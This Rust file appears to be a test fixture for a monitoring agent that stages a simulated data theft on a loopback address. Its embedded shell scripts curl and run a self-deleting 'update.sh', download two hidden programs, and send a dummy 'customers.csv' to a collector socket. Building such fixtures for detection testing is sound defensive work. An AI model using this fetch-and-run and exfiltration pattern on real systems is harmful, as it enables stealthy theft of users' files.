//! A theft: a script that a user has downloaded fetches two programs, of which
//! one connects and the other one sends a file out by its socket. Both delete
//! themselves, and so does the script.

use std::{
    collections::BTreeMap,
    fs,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{SocketAddr, TcpListener},
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::Command,
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use crate::{agent::LIMIT, cgroup::TestCgroup, scratch::Image};

/// The host that the script and its programs come from, and the file goes to.
const HOST: &str = "127.0.0.77";
const UID: u32 = 1000;
const STOLEN: &str = "customers.csv";
/// Bytes of the file.
pub const STOLEN_LEN: usize = 262_267;

/// Opens the session, as a login does: before the agent starts, whose ancestry
/// then ends here.
const LOGIN: &str = r#"echo 0 >"$1/cgroup.procs"
echo "$3" >/proc/self/loginuid
exec setpriv --reuid "$3" --regid "$3" --clear-groups bash session.sh "$2"
"#;
/// What the user does, once he is told to.
const SESSION: &str = r#"cat /proc/self/loginuid - /proc/self/sessionid </dev/null >login
touch waiting
while [ ! -e go ]; do sleep 0.01; done
curl -s -o update.sh "$1/update.sh"
chmod +x update.sh
./update.sh "$1"
touch done
"#;
const UPDATE: &str = r#"#!/bin/bash
rm "$0"
for part in fetch send; do
  curl -s -o .$part "$1/$part"
  chmod +x .$part
done
./.fetch leak --to COLLECTOR --file customers.csv --by ./.send
"#;

/// The directory in which it happens, and what is true of it.
#[derive(Debug)]
pub struct Incident {
    home: PathBuf,
    /// Who the file goes to.
    pub collector: SocketAddr,
    /// The program that connects, and the one that sends.
    pub opener: Image,
    pub sender: Image,
    collected: Option<JoinHandle<usize>>,
}

impl Incident {
    /// Has the user log in.
    ///
    /// # Panics
    ///
    /// When he cannot.
    #[must_use]
    pub fn log_in(home: &Path, store: &Path, cgroup: &TestCgroup) -> Self {
        let [opener, sender] = ["fetch", "send"].map(|name| Image::copy_to(&store.join(name)));
        let collector = TcpListener::bind((HOST, 0)).expect("an address");
        let address = collector.local_addr().expect("an address");
        let served = BTreeMap::from([
            (
                "/update.sh".to_owned(),
                UPDATE
                    .replace("COLLECTOR", &address.to_string())
                    .into_bytes(),
            ),
            ("/fetch".to_owned(), fs::read(&opener.path).expect("a file")),
            ("/send".to_owned(), fs::read(&sender.path).expect("a file")),
        ]);
        let incident = Self {
            home: home.to_owned(),
            collector: address,
            opener,
            sender,
            collected: Some(thread::spawn(move || collect(&collector))),
        };
        fs::write(home.join(STOLEN), vec![b','; STOLEN_LEN]).expect("a file");
        fs::write(home.join("session.sh"), SESSION).expect("a file");
        fs::write(home.join("login.sh"), LOGIN).expect("a file");
        fs::set_permissions(home, fs::Permissions::from_mode(0o777)).expect("chmod");
        let mut login = Command::new("setsid");
        login.args(["--fork", "bash", "login.sh"]);
        login
            .arg(cgroup.path())
            .arg(serve(served))
            .arg(UID.to_string());
        let status = login.current_dir(home).status().expect("setsid");
        assert!(status.success(), "{status}");
        incident.wait_for("waiting");
        incident
    }

    /// Uid of the login, and number of its session, if the kernel keeps them.
    ///
    /// # Panics
    ///
    /// When nobody has logged in.
    #[must_use]
    pub fn login(&self) -> Option<(String, String)> {
        let login = fs::read_to_string(self.home.join("login")).expect("a login");
        // No newline is behind the first, which the kernel does not write.
        let session = login.strip_prefix(&UID.to_string())?;
        Some((UID.to_string(), session.to_owned()))
    }

    /// Has it happen, and says how many bytes went out.
    ///
    /// # Panics
    ///
    /// When it does not.
    pub fn happen(&mut self) -> usize {
        fs::write(self.home.join("go"), "").expect("a file");
        self.wait_for("done");
        let collected = self.collected.take().expect("it happens once");
        collected.join().expect("no panic")
    }

    fn wait_for(&self, file: &str) {
        let start = Instant::now();
        while !self.home.join(file).exists() {
            assert!(start.elapsed() < LIMIT, "nobody makes {file}");
            thread::sleep(Duration::from_millis(5));
        }
    }
}

/// Takes one connection, and counts what comes; nothing, where none comes.
fn collect(listener: &TcpListener) -> usize {
    listener.set_nonblocking(true).expect("non-blocking");
    let start = Instant::now();
    let mut stream = loop {
        match listener.accept() {
            Ok((stream, _)) => break stream,
            Err(_) if start.elapsed() > 2 * LIMIT => return 0,
            Err(_) => thread::sleep(Duration::from_millis(5)),
        }
    };
    stream.set_nonblocking(false).expect("blocking");
    let mut bytes = Vec::new();
    stream.read_to_end(&mut bytes).expect("bytes");
    bytes.len()
}

/// A server of files, each of which is asked for once; where it is.
fn serve(mut files: BTreeMap<String, Vec<u8>>) -> String {
    let listener = TcpListener::bind((HOST, 0)).expect("an address");
    let address = listener.local_addr().expect("an address");
    thread::spawn(move || {
        while !files.is_empty() {
            let (mut stream, _) = listener.accept().expect("a connection");
            let mut request = BufReader::new(&stream);
            let mut first = String::new();
            request.read_line(&mut first).expect("a request");
            let mut line = first.clone();
            while !line.trim().is_empty() {
                line.clear();
                request.read_line(&mut line).expect("a request");
            }
            let path = first.split(' ').nth(1).unwrap_or_default();
            let file = files.remove(path).expect("it is asked for once");
            write!(
                stream,
                "HTTP/1.0 200 OK\r\ncontent-length: {}\r\n\r\n",
                file.len()
            )
            .and_then(|()| stream.write_all(&file))
            .expect("it is taken");
        }
    });
    format!("http://{address}")
}
